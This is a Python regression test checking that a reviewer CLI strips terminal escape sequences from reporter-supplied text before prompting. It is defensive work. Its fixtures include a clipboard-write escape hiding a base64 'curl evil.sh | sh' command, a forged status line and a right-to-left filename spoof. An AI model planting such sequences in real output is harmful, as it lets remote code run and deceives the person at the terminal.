"""Reporter text never drives the reviewer's terminal (``reviewer.ui.terminal``).

Regression (issue 8): ``escalate`` asked about each identifier with ``input()`` on a prompt
that held the reporter's text around it, unfiltered, so an escape sequence in a report reached
the reviewer's terminal: ``ESC ] 52`` writes the clipboard, ``ESC [ 2 J`` clears the screen.
Run on a real pseudo-terminal, as the reviewer would meet it.
"""

from __future__ import annotations

from pathlib import Path

from reviewer.cli import main
from reviewer.ui.terminal import one_line, safe

from ..helpers import CLI, Org, drive_tty, lead_args, make_report, write_export

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
CLEAR = "\x1b[2J\x1b[H"
CSI_C1 = "\x9b31m"
ESCAPES = (b"\x1b]52", b"\x1b[2J", b"\x07", "\x9b".encode(), "\u202e".encode())


def test_safe_replaces_every_control_but_tab_and_newline() -> None:
    text = "a\x00b\tc\nd\x1be\x7ff\x85g\x9bh\u202ei\u2066j\u2028k"
    assert safe(text) == "a\ufffdb\tc\nd\ufffde\ufffdf\ufffdg\ufffdh\ufffdi\ufffdj\ufffdk"
    assert one_line("x\ny\tz\x1b") == "x⏎y z\ufffd"
    assert safe("Jawa Tengah — 0812") == "Jawa Tengah — 0812"  # ordinary text untouched


def test_escalate_redaction_prompt_keeps_reporter_escapes_off_the_terminal(
    team: Org, tmp_path: Path
) -> None:
    evil_field = "uraian\n\x1b[1AStatus: ditutup"
    fields = {
        "category": "mobilisation",
        "province": "Lampung",
        "description": f"Saya{CLIPBOARD} NIP 198503122010011005 {CLEAR}lihat{CSI_C1}",
        evil_field: "HP 0812 3456 7890\u202egpj.exe",
    }
    rep = make_report(
        team.directory(), ["ayu"], evidence=0, fields=fields, consent={"authorities": ["bkn"]}
    )
    bundle = tmp_path / "export.bisik"
    write_export(bundle, team.server_key, [rep])
    common = lead_args(team, tmp_path)
    assert main(["import", str(bundle), *common]) == 0
    argv = [*CLI, "escalate", rep.case_id, "--to", "bkn", "--out", str(tmp_path / "d"), *common]
    seen, status = drive_tty(argv, ["y\n", "y\n", "y\n"], marker=b"[Y/n] ")
    assert status == 0, seen.decode(errors="replace")
    assert seen.count(b"[Y/n] ") >= 2  # it did ask, on the terminal
    assert b"198503122010011005" in seen  # the reviewer still sees what is asked
    for escape in ESCAPES:
        assert escape not in seen
    assert not [line for line in seen.splitlines() if line.startswith(b"\x1b")]
    assert not [line for line in seen.splitlines() if line.lstrip().startswith(b"Status:")]
